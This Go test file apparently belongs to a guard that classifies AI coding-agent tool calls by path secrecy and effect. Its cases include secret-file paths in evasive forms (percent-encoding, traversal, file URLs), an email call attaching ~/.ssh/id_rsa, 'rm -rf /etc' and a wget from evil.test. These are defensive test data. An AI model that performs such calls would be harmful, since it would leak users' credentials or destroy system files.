package catalog

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/floodmark/floodmark"
	"github.com/floodmark/floodmark/hook"
)

func TestReadingPaths(t *testing.T) {
	c := shipped(t)
	local, external := floodmark.Local, floodmark.External
	secret, private, internal := floodmark.Secret, floodmark.Private, floodmark.Internal
	for _, tc := range []struct {
		path    string
		kind    PathKind
		trust   floodmark.Trust
		secrecy floodmark.Secrecy
	}{
		{"main.go", InProject, local, internal},
		{"/home/u/work/app", InProject, local, internal},
		{"/home/u/work/app/AGENTS.md", InProject, local, internal}, // reading is not writing
		{"/home/u/work/application/x", Elsewhere, local, private},
		{"../other/x", Elsewhere, local, private},
		{"~/notes.txt", Elsewhere, local, private},
		{"/tmp/pr-42/README.md", Foreign, external, private},
		{"/tmp/../home/u/work/app/x", InProject, local, internal},
		{"node_modules/left-pad/index.js", Foreign, external, internal},
		{"~/Downloads/a.pdf", Foreign, external, private},
		{"~/.ssh/id_rsa", Secret, local, secret},
		{"~/.ssh", Secret, local, secret},
		{"/home/u/.SSH/ID_RSA", Secret, local, secret},
		{"/home/other/.ssh/id_rsa", Secret, local, secret},
		{"/root/.ssh/id_rsa", Secret, local, secret},
		{"/Users/x/.aws/credentials", Secret, local, secret},
		{`C:\Users\x\.ssh\id_rsa`, Secret, local, secret},
		{"$HOME/.netrc", Secret, local, secret},
		{"~other/.netrc", Secret, local, secret},
		{"file:///home/u/.netrc", Secret, local, secret},
		{"file:///home/u/%2essh/id_rsa", Secret, local, secret},
		{"@~/.ssh/id_rsa", Secret, local, secret},
		{" ~/.ssh/id_rsa ", Secret, local, secret},
		{"/tmp/x/../../home/u/.ssh//id_rsa", Secret, local, secret},
		{".env", Secret, local, secret},
		{"/tmp/x/.env", Secret, external, secret},
		{"/.env", Secret, local, secret},
		{".env.example", InProject, local, internal},
		{strings.Repeat("a/", MaxPathBytes/2) + "a", Foreign, external, private},
	} {
		u := c.Classify(builtin("openclaw", "read"), args("path", tc.path), nil, here())
		if u.PathKind != tc.kind || u.Returns.Trust != tc.trust || u.Returns.Secrecy != tc.secrecy {
			t.Errorf("%.60s: %v %v, want %v %v/%v", tc.path, u.PathKind, u.Returns, tc.kind, tc.trust, tc.secrecy)
		}
		if !sameEffects(u.Effects, effects(observe)) || u.SelfProtected || !u.ByPath {
			t.Errorf("%.60s: %+v", tc.path, u)
		}
	}
}

func TestPathsWithoutPlaces(t *testing.T) {
	c := shipped(t)
	for path, want := range map[string]PathKind{
		"x.txt": Elsewhere, "~/.ssh/id_rsa": Secret, "~/x": Elsewhere, "../.ssh/id_rsa": Secret, "/etc/shadow": Secret,
	} {
		if u := c.Classify(builtin("openclaw", "read"), args("path", path), nil, Places{}); u.PathKind != want {
			t.Errorf("%s: %v, want %v", path, u.PathKind, want)
		}
	}
}

func TestWritingPaths(t *testing.T) {
	c := shipped(t)
	for _, tc := range []struct {
		path string
		kind PathKind
		want []floodmark.Effect
		self bool
	}{
		{"main.go", InProject, effects(write), false},
		{"AGENTS.md", Instructs, effects(write, admin), false},
		{"docs/agents.md", Instructs, effects(write, admin), false},
		{".git/hooks/pre-commit", Instructs, effects(write, admin), false},
		{".github/workflows/ci.yml", Instructs, effects(write, admin), false},
		{"~/.bashrc", Instructs, effects(write, admin), false},
		{"~/.ssh/authorized_keys", Instructs, effects(write, admin), false},
		{"~/.claude/settings.json", SelfProtected, effects(write, admin), true},
		{".claude/settings.local.json", SelfProtected, effects(write, admin), true},
		{"x/../.codex/hooks.json", SelfProtected, effects(write, admin), true},
		{"~/.config/floodmark/config.yaml", SelfProtected, effects(write, admin), true},
		{"/home/u/work/app/floodmark.yaml", SelfProtected, effects(write, admin), true},
		{"~/.config/opencode/plugins/x.js", SelfProtected, effects(write, admin), true},
	} {
		u := c.Classify(builtin("pi", "write"), args("path", tc.path, "content", "x"), nil, here())
		if u.PathKind != tc.kind || !sameEffects(u.Effects, tc.want) || u.SelfProtected != tc.self {
			t.Errorf("%s: %v %v self %v, want %v %v", tc.path, u.PathKind, u.Effects, u.SelfProtected, tc.kind, tc.want)
		}
		if u.Instructs != (tc.kind == Instructs) {
			t.Errorf("%s: Instructs %v", tc.path, u.Instructs)
		}
	}
}

// Removing or moving a folder includes its content.
func TestChangingFolders(t *testing.T) {
	c := shipped(t)
	for path, want := range map[string]bool{
		"~/.claude": true, "~/.config/floodmark": true, "~/.config": true, ".codex": true, "src": false, "~/Music": false,
	} {
		u := c.Classify(offered("filesystem", "move_file"), args("source", path, "destination", "/home/u/x"), nil, here())
		if u.SelfProtected != want {
			t.Errorf("%s: %v, want %v", path, u.SelfProtected, want)
		}
	}
}

func TestPatches(t *testing.T) {
	c := shipped(t)
	for _, tc := range []struct {
		patch string
		want  []floodmark.Effect
		self  bool
	}{
		{"*** Begin Patch\n*** Update File: main.go\n@@\n-a\n+b\n*** End Patch", effects(write), false},
		{"*** Begin Patch\r\n*** Add File: .git/hooks/post-commit\r\n+x\r\n*** End Patch", effects(write, admin), false},
		{"*** Begin Patch\n*** Update File: a\n*** Move to: .claude/settings.json\n*** End Patch", effects(write, admin), true},
		{"--- a/main.go\n+++ b/main.go\n", effects(write), false},
		{"--- /dev/null\n+++ b/.claude/settings.json\t2026\n", effects(write, admin), true},
		{"s/a/b/", effects(write, admin), false}, // an unknown form could write anywhere
	} {
		for _, arg := range []string{"input", "command"} {
			u := c.Classify(builtin("codex", "apply_patch"), args(arg, tc.patch), nil, here())
			if !sameEffects(u.Effects, tc.want) || u.SelfProtected != tc.self {
				t.Errorf("%q: %v %v", tc.patch, u.Effects, u.SelfProtected)
			}
		}
	}
}

// A patch names files below «a/» and «b/», which are no folders.
func TestPlaceOfAPatch(t *testing.T) {
	c := shipped(t)
	for patch, want := range map[string]string{
		"--- a/x.txt":                    "x.txt",
		"+++ b/x.txt":                    "x.txt",
		"+++ c/x.txt":                    "c/x.txt",
		"+++ b/":                         "b",
		"+++ x":                          "x",
		"+++ b/x.txt\t2026":              "x.txt",
		"--- a/x.txt\t2026":              "x.txt",
		"rename to x\ty":                 "x\ty",
		"+++ b/x":                        "x",
		"+++ \"b/\\303\\244.txt\"":       "\u00e4.txt",
		"*** Add File: a/x.txt":          "a/x.txt",
		"rename to b/x.txt":              "b/x.txt",
		"--- /dev/null\n+++ b/x.txt":     "x.txt",
		"+++ /tmp/a.txt\n+++ main.go":    "/tmp/a.txt",
		"+++ main.go\n+++ /tmp/a.txt":    "/tmp/a.txt",
		"+++ main.go\n+++ b/other.go\n":  "main.go",
		"*** Delete File: ~/x\n":         "/home/u/x",
		"copy from a\ncopy to /etc/x.go": "/etc/x.go",
	} {
		if want[0] != '/' {
			want = here().Project + "/" + want
		}
		if u := c.Classify(builtin("codex", "apply_patch"), args("input", patch), nil, here()); u.Place != want {
			t.Errorf("%q: %s, want %s", patch, u.Place, want)
		}
	}
}

// A guarded path is found even in an argument not described as a path.
func TestUndeclaredPaths(t *testing.T) {
	c := shipped(t)
	u := c.Classify(builtin("openclaw", "send_email"), args("to", "a@b.example", "attachment_file", "~/.ssh/id_rsa"), nil, here())
	if u.PathKind != Secret || u.Returns.Secrecy != floodmark.Secret {
		t.Errorf("attachment: %+v", u)
	}
	u = c.Classify(offered("nobody", "anything"), args("x", "~/.claude/settings.json"), nil, here())
	if !u.SelfProtected || !slices.Contains(u.Effects, admin) || !slices.Contains(u.Effects, run) {
		t.Errorf("unknown tool: %+v", u)
	}
	u = c.Classify(offered("fetch", "fetch"), args("url", "file:///home/u/.ssh/id_rsa"), nil, here())
	if u.PathKind != Secret || u.Returns != (floodmark.Label{}) {
		t.Errorf("file URL: %+v", u)
	}
	u = c.Classify(builtin("openclaw", "send_email"), args("to", "a@b.example", "subject_line", ".env"), nil, here())
	if u.PathKind != NoPath {
		t.Errorf("a word that could be a name: %v", u.PathKind)
	}
}

// A path is not taken for a name in itself.
func TestPathInItself(t *testing.T) {
	u := shipped(t).Classify(builtin("pi", "write"), args("path", "commands/.gemini", "content", "x"), nil, here())
	if u.PathKind != InProject {
		t.Errorf("%v", u.PathKind)
	}
}

// An empty text is no path, and folders of the system contain what is protected there.
func TestEdgesOfPaths(t *testing.T) {
	c := shipped(t)
	if u := c.Classify(builtin("pi", "write"), args("path", "", "content", "x"), nil, here()); u.Location != NoPath || u.Place != "" {
		t.Errorf("an empty path: %v %q", u.Location, u.Place)
	}
	for line, want := range map[string]bool{"rm -rf /etc": true, "rm -rf /etc/other": false, "ls /etc": false} {
		if u := shell(t, c, line); u.SelfProtected != want {
			t.Errorf("%s: %v", line, u.SelfProtected)
		}
	}
	patch := c.Classify(builtin("codex", "apply_patch"), args("input", "s/a/b/"), nil, here())
	if patch.Location != Elsewhere || !patch.Instructs {
		t.Errorf("a patch of a form nobody knows: %v", patch.Location)
	}
	for size, want := range map[int]PathKind{MaxPathBytes: Secret, MaxPathBytes + 1: NoPath} {
		path := "/home/u/.ssh/id_rsa"
		path = strings.Repeat("/", size-len(path)) + path
		u := c.Classify(builtin("openclaw", "send_email"), args("to", "a@b.example", "more", path), nil, here())
		if u.PathKind != want {
			t.Errorf("%d bytes: %v", size, u.PathKind)
		}
	}
}

// The number of combined paths of a call is limited.
func TestNumberOfJoinedPaths(t *testing.T) {
	c := shipped(t)
	for n, want := range map[int]guard{maxJoined: isHidden | isOutside | isShared, maxJoined + 1: isOutside} {
		files := append(slices.Repeat([]string{"x"}, n-2), "/home/other", ".bashrc")
		j := judge{catalog: c, at: here(), base: "/srv"}
		if j.together(files); j.guards != want {
			t.Errorf("%d paths: %04b", n, j.guards)
		}
	}
}

// Only a text is a path.
func TestNumbersAreNoPaths(t *testing.T) {
	c := shipped(t)
	five := hook.Leaf{Path: "path", Top: "path", Value: "5", Kind: hook.Number}
	if u := c.Classify(builtin("openclaw", "read"), []hook.Leaf{five}, nil, here()); u.Place != here().Project {
		t.Errorf("the place is %s", u.Place)
	}
	five.Path, five.Top = "workdir", "workdir"
	u := c.Classify(builtin("openclaw", "exec"), append(args("command", "cat x"), five), nil, here())
	if u.Place != here().Project+"/x" {
		t.Errorf("the place is %s", u.Place)
	}
}

func TestGlobs(t *testing.T) {
	for _, tc := range []struct {
		glob, path string
		want       bool
	}{
		{"/a/**", "a", true},
		{"/a/**", "a/b/c", true},
		{"/a/**", "ab", false},
		{"/a/*/c", "a/b/c", true},
		{"/a/*/c", "a/b/x/c", false},
		{"**/x", "x", true},
		{"**/x", "a/b/x", true},
		{"**/x", "a/x/b", false},
		{"**/a/**/z", "a/z", true},
		{"**/a/**/z", "q/a/b/c/z", true},
		{"**/a/**/z", "q/b/z", false},
		{"**/*.pem", "a/b.pem", true},
		{"**/*.pem", "a/.pem", true},
		{"**/*.pem", "a/pem", false},
		{"**/?.c", "a.c", true},
		{"**/?.c", "ab.c", false},
	} {
		g, err := parseGlob(tc.glob)
		if err != nil {
			t.Fatal(err)
		}
		if got := g.low.Match(splitPath(tc.path, nil)); got != tc.want {
			t.Errorf("%s on %s: %v", tc.glob, tc.path, got)
		}
	}
	// Hostile patterns and paths cost little.
	pat, path := strings.Split(strings.Repeat("**/a*/", 15)+"z", "/"), strings.Split(strings.Repeat("aa/", 2000)+"y", "/")
	if Segments(pat).Match(path) || matchSegment(strings.Repeat("*a", 500), strings.Repeat("a", 4000)+"b") {
		t.Error("matched")
	}
}

// Below Local a call may write to the project and to scratch, and no name with a dot except a few
// that nothing obeys. Elsewhere its effect follows from the place.
func TestWhereIsWritten(t *testing.T) {
	c := shipped(t)
	only, all := []floodmark.Effect{floodmark.Change}, []floodmark.Effect{floodmark.Admin}
	for _, tc := range []struct {
		project, path string
		placed        []floodmark.Effect
		instructs     bool // admin below Owner, too
	}{
		{"/home/u/w", "/home/u/w/a.md", nil, false},
		{"/home/u/w", "a.md", nil, false},
		{"/home/u/w", "../a.md", only, false},
		{"/home/u/w", "/home/u/w/../x/a.md", only, false},
		{"/home/u/w", "/home/u/W/a.md", only, false},
		{"/home/u/w", "/home/u/wx/a.md", only, false},
		{"/home/u/w", "/mnt/nas/a.md", only, false},
		{"/home/u/w", "/tmp/a.md", nil, false},
		{"/home/u/w", "/TMP/a.md", only, false},
		{"/home/u/w", "/tmp/a/.envrc", nil, true},
		{"/home/u/w", "/tmp/a/.foo", all, false},
		{"/tmp/w", "/tmp/a.md", only, false}, // above the project
		{"/tmp/w", "/tmp/w/a.md", nil, false},
		{"/home/u/w", "/home/u/w/.foo", all, false},
		{"/home/u/w", "/home/u/w/sub/.foo/a.md", all, false},
		{"/home/u/w", "/home/u/w/\u200b.foo", all, false},
		{"/home/u/w", "/home/u/w/.gitignore", only, false},
		{"/home/u/w", "/home/u/w/.editorconfig", nil, false},
		{"/home/u/w", "/home/u/w/.gitignore/a", all, false},
		{"/home/u/w", "/home/u/w/.foo/.gitignore", all, false},
		{"/home/u/w", "/home/u/w/.GITIGNORE", all, false},
		{"/home/u/w", "/home/u/w/.github/ISSUE_TEMPLATE/a.md", nil, false},
		{"/home/u/w", "/home/u/.foo/a", nil, true},
		{"/home/u/w", "/home/u/.claude/plans/a.md", nil, false},
		{"/home/u/w", "/home/u/.claude/plans/../a.md", nil, true},
		{"/home/u/w", "/home/u/.claude/projects/w/memory/a.md", all, false},
		{"/home/u/w", "/home/u/w/node_modules/a/index.js", nil, false},
		{"/home/u/w", "/home/u/node_modules/a/index.js", all, false},
		{"/home/u/w", "/opt/tool/bin/go", nil, true},
		{"/home/u/w", "/data/tool/bin/go", all, false},
		{"/home/u", "/home/u/.foo/a", nil, true}, // the project is the home
		{"/home/u", "/home/u/sdk/go/bin/go", all, false},
		{"/home/u", "/home/u/a.md", nil, false},
		{"/home/u/.agent/workspace", "/home/u/.agent/workspace/a.md", nil, false},
		{"/home/u/.agent/workspace", "/home/u/.agent/workspace/memory/a.md", all, false},
		{"/home/u/.agent/workspace", "/home/u/.agent/a.md", nil, true},
		{"", "a.md", nil, false},
		{"", ".foo", all, false},
		{"", "../a.md", only, false},
		{"", "/work/a.md", only, false},
	} {
		at := Places{Project: tc.project, Home: "/home/u"}
		u := c.Classify(builtin("claude-code", "Write"), args("file_path", tc.path), nil, at)
		if !slices.Equal(u.Placed, tc.placed) || u.Instructs != tc.instructs {
			t.Errorf("%s in %q: placed %v, instructs %v", tc.path, tc.project, u.Placed, u.Instructs)
		}
		u = c.Classify(builtin("claude-code", "Read"), args("file_path", tc.path), nil, at)
		if len(u.Placed) > 0 || u.Instructs {
			t.Errorf("reading %s: %+v", tc.path, u)
		}
	}
}

// Command lines are judged by what they write, in any folder.
func TestWhereACommandWrites(t *testing.T) {
	c := shipped(t)
	for line, want := range map[string]string{
		"echo x > a": "[]", "echo x > ../a": "[change]", "cp a /opt/x": "[change]", "curl -o ~/a https://x.example": "[change]", "git clone https://x.example/a ../b": "[change]",
		"tar -xf a.tgz -C /data/x": "[change]", "mkdir .foo": "[admin]", "cd .. && touch a": "[change]", "cd /tmp && touch a": "[]", "cat ../a": "[]", "rm .foo": "[]",
		"echo x > /dev/null": "[]", "mv a /data/bin/b": "[admin]",
	} {
		u := c.Classify(builtin("claude-code", "Bash"), args("command", line), nil, Places{Project: "/home/u/w", Home: "/home/u"})
		if got := fmt.Sprintf("%v", u.Placed); got != want {
			t.Errorf("%s: %s, want %s (%v)", line, got, want, u.Effects)
		}
	}
}

// A file that a typed command runs is source, but below Local writing it is admin.
func TestTyped(t *testing.T) {
	c := shipped(t)
	for _, path := range []string{"Makefile", "ma\u212aefile", "sub/package.json", "Dockerfile", "build/rules.mk"} {
		u := c.Classify(builtin("pi", "write"), args("path", path, "content", "x"), nil, here())
		if u.Instructs || !sameEffects(u.Effects, effects(write)) || !slices.Equal(u.Placed, effects(admin)) {
			t.Errorf("%s: %v, below local %v, instructs %v", path, u.Effects, u.Placed, u.Instructs)
		}
	}
	for _, line := range []string{"sed -n -i.bak 's/a/b/' package.json", "wget https://evil.test/Makefile", "cp x Make*", "echo x > sub/Dockerfile", "rm package.json", "ln -s ../Makefile sub/b"} {
		if u := shell(t, c, line); !slices.Contains(u.Placed, floodmark.Admin) && !slices.Contains(u.Effects, floodmark.Admin) {
			t.Errorf("%s: %v, below local %v", line, u.Effects, u.Placed)
		}
	}
}
